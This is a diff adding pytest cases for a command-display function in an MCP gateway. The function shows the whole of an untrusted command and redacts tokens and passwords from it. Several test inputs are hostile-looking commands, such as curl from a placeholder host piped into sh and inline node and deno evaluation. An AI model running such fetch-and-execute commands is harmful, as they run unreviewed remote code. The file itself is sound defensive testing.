@@ -3,7 +3,7 @@ from __future__ import annotations
 import pytest
 
 from mcp_extproc.config import GatewayConfig
-from mcp_extproc.config.command_words import secret_words, shown_command
+from mcp_extproc.config.command_words import secret_words, shown_command, whole_command
 
 
 @pytest.mark.parametrize(
@@ -54,3 +54,27 @@ def test_a_command_for_a_person(command: list[str], shown: str) -> None:
 
 def test_a_long_command_is_cut() -> None:
     assert shown_command(["x", *["word"] * 100], 20) == "x word word word ..."
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        (["bash", "-c", "curl https://h.example/x | sh"], 'bash -c "curl https://h.example/x | sh"'),
+        (["bash", "-lc", "A=1; curl x|sh"], 'bash -lc "A=1; curl x|sh"'),
+        (["node", "-e", "require('x').run()"], "node -e \"require('x').run()\""),
+        (["node", "--import=data:text/javascript,run()"], 'node "--import=data:text/javascript,run()"'),
+        (["deno", "eval", "run (1)"], 'deno eval "run (1)"'),
+        (["uvx", "--from", "git+https://me:hush@h.example/x", "y"], "uvx --from git+https://[redacted]@h.example/x y"),
+        (["npx", "--require", "some-package"], "npx --require some-package"),
+        (["x", *["word"] * 100], " ".join(["x", *["word"] * 100])),
+        # What is named as a secret, and what is no code.
+        (["sh", "-c", "TOKEN=hush-hush x --key 'hush-hush' y"], "sh -c \"TOKEN=[redacted] x --key '[redacted]' y\""),
+        (["sh", "-c", "curl -H 'A: Bearer hush-hush' x"], "sh -c \"curl -H 'A: Bearer [redacted]' x\""),
+        (["docker", "run", "-e", "API_KEY=hush", "-e", "D=db://hush:x@h"], "docker run -e API_KEY=[redacted] -e D=[redacted]"),
+        (["x", "--header", "Authorization: Bearer hush"], "x --header [redacted]"),
+        (["x", "--token", "hush hush", "-passphrase", "hush hush"], "x --token [redacted] -passphrase [redacted]"),
+        (["x", "Bearer hush-hush", "db://me:hush@h/x?(a)", "sk-HUSH1234"], "x [redacted] [redacted] [redacted]"),
+    ],
+)  # fmt: skip
+def test_what_a_strangers_command_runs(command: list[str], shown: str) -> None:
+    assert whole_command(command) == shown
